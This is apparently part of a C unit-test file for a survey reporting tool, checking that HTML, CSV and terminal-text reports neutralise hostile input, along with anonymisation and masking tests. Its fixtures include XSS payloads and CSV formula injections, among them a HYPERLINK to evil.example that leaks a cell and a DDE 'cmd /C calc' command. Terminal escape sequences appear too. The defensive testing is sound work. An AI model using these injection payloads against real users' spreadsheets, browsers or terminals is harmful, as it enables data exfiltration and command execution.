	assert_xpath(d, "//div[@id='q-pick']//table[@class='counts']/tbody/tr[1]/th",
		     "<img src=x onerror=alert(1)>");
	assert_xpath(d, "//*[@id='pick-chart']", "Q2. Pick: <img src=x "
		     "onerror=alert(1)> 1 (50.0%); Y 1 (50.0%)");
	assert_xpath(d, "//table[@class='roster']/tbody/tr/td[2]",
		     "Mal <script>x</script> 'O'");
	assert_xpath(d, "//table[@class='facts']/tr[th='Reference']/td",
		     "E&<1>");
	assert_xpath(d, "/html/body/p[1]", "Questionnaire: Escapes & "
		     "<tests> \"q\" (esc)");
	assert_true(xpath_num(d, "count(//script|//img|//b|//i)") == 0);
	xmlFreeDoc(d);
	free(out);
}

/* ---- CSV cells a spreadsheet would evaluate ----------------------------- */

static const char inj_xml[] =
"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
"<survey id=\"inj\" fallback=\"en\">\n"
" <title xml:lang=\"en\">Injection</title>\n"
" <question id=\"say\" type=\"text\"><text xml:lang=\"en\">Say</text>"
"</question>\n"
" <question id=\"n\" type=\"number\"><text xml:lang=\"en\">N</text>"
"</question>\n"
"</survey>\n";

/* One contact per row, in email order: its name, its text answer, its
 * number answer, and the CSV row the report must write for it. */
static const struct {
	const char *name, *say, *n, *row;
} inj[] = {
	{ "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
	  "=cmd|' /C calc'!A0", "-5",
	  "i00@example.org,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,"
	  "\"\"Click\"\")\",Gent,BE,en,yes,yes,,'=cmd|' /C calc'!A0,-5" },
	{ "Ann", "+1+2", "-3.5", "i01@example.org,Ann,Gent,BE,en,yes,yes,,"
	  "'+1+2,-3.5" },
	{ "@Bob", "-2+3", "+7", "i02@example.org,'@Bob,Gent,BE,en,yes,yes,,"
	  "'-2+3,+7" },
	{ "Cy", "@SUM(1;2)", "0", "i03@example.org,Cy,Gent,BE,en,yes,yes,,"
	  "\"'@SUM(1;2)\",0" },
	/* stored answers keep a leading TAB or CR: the guard goes first */
	{ "Di", "\t=1+1", "-", "i04@example.org,Di,Gent,BE,en,yes,yes,,"
	  "\"'\t=1+1\",'-" },
	{ "Ed", "\r=1+1\r\n", "-1e3", "i05@example.org,Ed,Gent,BE,en,yes,"
	  "yes,,\"'\r=1+1\r\n\",-1e3" },
	{ "Fay", "plain, text", "42", "i06@example.org,Fay,Gent,BE,en,yes,"
	  "yes,,\"plain, text\",42" },
};
#define NINJ (sizeof(inj) / sizeof(inj[0]))

static int
inj_fill(struct fixture *f)
{
	struct store_campaign c = {
		.name = "inj-2026", .kind = "survey", .template = "survey",
		.file = "inj.campaign", .extra = "{}",
		.audience = { .group = "inj" },
	};
	struct store_outbox_filter flt = { 0, "invite" };
	int64_t id[NINJ], cid;
	struct deliver x = { f, 100, 0 };
	struct err e;
	long added, n;
	int created;

	if (store_begin(f->s, &e) < 0)
		return -1;
	for (size_t i = 0; i < NINJ; i++) {
		char email[32];
		struct store_contact k = {
			.email = email, .name = inj[i].name,
			.municipality = "Gent", .country = "BE",
			.language = "en", .groups = "inj",
		};

		snprintf(email, sizeof(email), "i%02zu@example.org", i);
		if (store_contact_upsert(f->s, &k, &id[i], &created, &e) < 0)
			return -1;
	}
	if (store_commit(f->s, &e) < 0 ||
	    campaign_put(f, inj_xml, &c, &cid) < 0 ||
	    store_deliveries_plan(f->s, cid, "invite", &added, &e) < 0 ||
	    added != (long)NINJ)
		return -1;
	/* only this campaign's rows (esc-2026's wait unsent) */
	flt.campaign_id = cid;
	if (store_outbox_claim(f->s, &flt, 100, 60, deliver_cb, &x, &n,
			       &e) < 0 || n != (long)NINJ || x.rc != 0)
		return -1;
	for (size_t i = 0; i < NINJ; i++) {
		char key[16];
		const struct store_answer a[2] = {
			{ "say", inj[i].say }, { "n", inj[i].n },
		};

		snprintf(key, sizeof(key), "inj/%zu", i);
		if (respond_in(f, cid, id[i], "x@example.org", key, a, 2) < 0)
			return -1;
	}
	return 0;
}

/* Every CSV cell a spreadsheet would evaluate (names too) starts with ',
 * numbers stay numbers, nothing else changes. */
static void
test_csv_formulas(void **state)
{
	struct fixture *f = *state;
	struct buf want;
	struct err e;
	int rc;
	char *out;

	assert_int_equal(inj_fill(f), 0);
	buf_init(&want, 0);
	buf_adds(&want, "email,name,municipality,country,language,delivered,"
		 "responded,answered_by,say,n\r\n");
	for (size_t i = 0; i < NINJ; i++)
		buf_printf(&want, "%s\r\n", inj[i].row);
	out = run(f, "inj-2026", REPORT_CSV, &rc, &e);
	assert_int_equal(rc, 0);
	assert_string_equal(out, buf_cstr(&want));
	free(out);
	buf_free(&want);
}

/* ---- publication: --anonymise, --k, CSV names and BOM ------------------ */

static char *
run_opts(struct fixture *f, const char *campaign, enum report_format fmt,
	 const struct report_opts *o)
{
	char *mem = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&mem, &len);
	struct err e;

	assert_int_equal(report_write_opts(f->s, &f->cfg, campaign, fmt, o,
					   out, &e), 0);
	fclose(out);
	return mem;
}

/* rt-2026 anonymised with k 2: strategy no (c alone) and every cross-table
 * cell of one respondent are hidden, yes (a b) is not; no name, address
 * or free text of the unpublishable muni question is left; with k 1
 * nothing is hidden. */
static void
test_anonymise(void **state)
{
	struct fixture *f = *state;
	struct report_opts o = { .anonymise = 1, .k = 2 };
	char *out = run_opts(f, "rt-2026", REPORT_TEXT, &o);

	assert_non_null(strstr(out, "  Yes  2   66.7%\n"));
	assert_non_null(strstr(out, "  No   (hidden)\n"));
	assert_non_null(strstr(out, "    BE               <2     <2      0\n"));
	assert_non_null(strstr(out, "free text left out"));
	for (size_t i = 0; i < 5; i++) {
		assert_null(strstr(out, people[i][0]));
		assert_null(strstr(out, people[i][1]));
	}
	assert_null(strstr(out, "Stad Gent"));
	assert_null(strstr(out, "stranger@example.net"));
	free(out);
	o.k = 1;
	out = run_opts(f, "rt-2026", REPORT_TEXT, &o);
	assert_null(strstr(out, "hidden"));
	assert_null(strstr(out, "<1"));
	assert_non_null(strstr(out, "  No   1   33.3%\n"));
	free(out);
	o.anonymise = 0;
	o.k = 2;
	out = run_opts(f, "rt-2026", REPORT_HTML, &o);
	assert_null(strstr(out, "class=\"hidden\""));
	assert_non_null(strstr(out, "Stad Gent"));
	free(out);
	o.anonymise = 1;
	out = run_opts(f, "rt-2026", REPORT_HTML, &o);
	assert_non_null(strstr(out, "class=\"hidden\""));
	assert_null(strstr(out, "Stad Gent"));
	assert_null(strstr(out, "b@example.org"));
	free(out);
}

/* The anonymised CSV: no email, name, answered_by or free-text column,
 * a municipality only where k contacts share it (none here); --bom. */
static void
test_csv_anonymise_bom(void **state)
{
	struct fixture *f = *state;
	struct report_opts o = { .anonymise = 1, .k = 2, .bom = 1 };
	char *out = run_opts(f, "rt-2026", REPORT_CSV, &o);

	assert_memory_equal(out, "\xef\xbb\xbf" "municipality,country,"
			    "language,delivered,responded,strategy,budget,"
			    "areas,satisfaction,staff,meeting\r\n,BG,en,yes,"
			    "yes,yes,small,\"education,housing\",4,3,"
			    "2026-03-10\r\n", 114);
	assert_null(strstr(out, "@example.org"));
	free(out);
}

/* A question whose id is a fixed column's, or another question's
 * after renaming, gets a column of its own: qN_ID. */
static void
test_csv_unique_columns(void **state)
{
	static const char xml[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
	"<survey id=\"dup\" fallback=\"en\">\n"
	" <title xml:lang=\"en\">Dup</title>\n"
	" <question id=\"municipality\" type=\"text\"><text xml:lang=\"en\">"
	"Where?</text></question>\n"
	" <question id=\"email\" type=\"text\"><text xml:lang=\"en\">"
	"Mail?</text></question>\n"
	"</survey>\n";
	struct fixture *f = *state;
	struct store_campaign c = {
		.name = "dup-2026", .kind = "survey", .template = "survey",
		.file = "dup.campaign", .extra = "{}",
		.audience = { .group = "nobody" },
	};
	struct report_opts o = { .k = 5 };
	int64_t cid;
	char *out;

	assert_int_equal(campaign_put(f, xml, &c, &cid), 0);
	out = run_opts(f, "dup-2026", REPORT_CSV, &o);
	assert_string_equal(out, "email,name,municipality,country,language,"
			    "delivered,responded,answered_by,"
			    "q1_municipality,q2_email\r\n");
	free(out);
}

/* Masking for a publishable question: every roster name and address
 * found verbatim, and telephone numbers, become [removed]; other words
 * and short numbers stay. */
static void
test_mask(void **state)
{
	struct report_contact c[2] = {
		{ .name = "Анна Иванова", .email = "a@example.org" },
		{ .name = "Bart Peeters", .email = "b@example.org" },
	};
	struct report r = { .c = c, .n = 2 };
	struct buf b;

	(void)state;
	buf_init(&b, 0);
	report_mask(&r, "Ask Анна Иванова (a@example.org) or Bart Peeters, "
		    "+359 888 123 456; Bart alone, 12 rooms, Bart Peetersen.",
		    &b);
	assert_string_equal(buf_cstr(&b), "Ask [removed] ([removed]) or "
			    "[removed], [removed]; Bart alone, 12 rooms, "
			    "Bart Peetersen.");
	free(r.mask);
	buf_free(&b);
}

/* ---- text for a terminal ------------------------------------------------ */

#define FFFD "\xef\xbf\xbd"

/* Escape sequences in answers, names, municipalities and a stranger's
 * subject: term-2026's own contacts and mail. */
static int
term_fill(struct fixture *f, int64_t *cid)
{
	static const char *const who[3][3] = {
		{ "t1@example.org", "T1", "\x1b[31mRed" },
		{ "t2@example.org", "T2", "Two" },
		{ "t3@example.org", "\x1b]0;pwned\x07" "Eve\xc2\x9b" "2J",
		  "Tab\there" },
	};
	const struct store_answer a[2][1] = {
		{ { "view", "\x1b[2J\x1b[Hcleared \x9b" "1m\x7f" } },
		{ { "view", "line one\r\n\tline two\x1b[0m" } },
	};
	struct store_campaign c = {
		.name = "term-2026", .kind = "survey", .template = "survey",
		.reference = "T\x1b[5m", .file = "term.campaign",
		.extra = "{}", .audience = { .group = "term" },
	};
	struct store_inbound m = {
		.src_key = "t/9", .from_addr = "x@example.net",
		.subject = "\x1b[31mURGENT\x1b[0m \xc2\x9d" "8;;http://x\x07",
		.date = "2026-11-03", .kind = STORE_I_UNREADABLE,
		.reason = "bad \x1b answer",
	};
	int64_t id[3], in;
	struct err e;
	long added;
	int created;

	if (store_begin(f->s, &e) < 0)
		return -1;
	for (int i = 0; i < 3; i++) {
		struct store_contact k = {
			.email = who[i][0], .name = who[i][1],
			.municipality = who[i][2], .country = "BG",
			.language = "en", .groups = "term",
		};

		if (store_contact_upsert(f->s, &k, &id[i], &created, &e) < 0)
			return -1;
	}
	if (store_commit(f->s, &e) < 0 ||
	    campaign_put(f, esc_xml, &c, cid) < 0 ||
	    store_deliveries_plan(f->s, *cid, "invite", &added, &e) < 0 ||
	    added != 3)
		return -1;
	m.campaign_id = *cid;
	m.contact_id = id[1];
	if (respond_in(f, *cid, id[0], who[0][0], "t/1", a[0], 1) < 0 ||
	    respond_in(f, *cid, id[1], who[1][0], "t/2", a[1], 1) < 0 ||
	    store_begin(f->s, &e) < 0 ||
	    store_inbound_add(f->s, &m, &in, &e) < 0)
		return -1;
	return store_commit(f->s, &e);
}

/* No ESC, BEL, DEL or C1 control reaches the terminal from a text
 * report; each shows as U+FFFD, and a multi-line answer keeps its lines
 * and tabs (layout), indented under the first. */
static void
test_text_escapes(void **state)
{
	struct fixture *f = *state;
	struct err e;
	int64_t cid;
	int rc;
	char *out;

	assert_int_equal(term_fill(f, &cid), 0);
	out = run(f, "term-2026", REPORT_TEXT, &rc, &e);
	assert_int_equal(rc, 0);
	for (const char *p = out; *p; p++) {
		unsigned char ch = (unsigned char)*p;

		if ((ch < 0x20 && ch != '\n' && ch != '\t') || ch == 0x7f)
			fail_msg("control 0x%02x at %td: %.40s", ch, p - out,
				 p);
		if (ch == 0xc2 && (unsigned char)p[1] >= 0x80 &&
		    (unsigned char)p[1] < 0xa0)
			fail_msg("C1 control at %td", p - out);
	}
	assert_non_null(strstr(out, "Campaign term-2026 (survey, T" FFFD
			       "[5m)\n"));
	assert_non_null(strstr(out, "  [" FFFD "[31mRed] " FFFD "[2J" FFFD
			       "[Hcleared " FFFD "1m" FFFD "\n"));
	assert_non_null(strstr(out, "  [Two] line one\n      \tline two"
			       FFFD "[0m\n"));
	/* the roster: t3 has not answered; columns still line up */
	assert_non_null(strstr(out, "  t3@example.org  " FFFD "]0;pwned"
			       FFFD "Eve" FFFD "2J  Tab" FFFD "here  (not "
			       "delivered)\n"));
	assert_non_null(strstr(out, "    2026-11-03  x@example.net  \""
			       FFFD "[31mURGENT" FFFD "[0m " FFFD "8;;http:"
			       "//x" FFFD "\": bad " FFFD " answer\n"));
	free(out);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_text),
		cmocka_unit_test(test_csv),
		cmocka_unit_test(test_json),
		cmocka_unit_test(test_unknown_campaign_and_format),
		cmocka_unit_test(test_html_page),
		cmocka_unit_test(test_html_numbers_are_json),
		cmocka_unit_test(test_html_escapes),
		cmocka_unit_test(test_csv_formulas),
		cmocka_unit_test(test_anonymise),
		cmocka_unit_test(test_mask),
		cmocka_unit_test(test_csv_anonymise_bom),
		cmocka_unit_test(test_csv_unique_columns),
		cmocka_unit_test(test_text_escapes),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
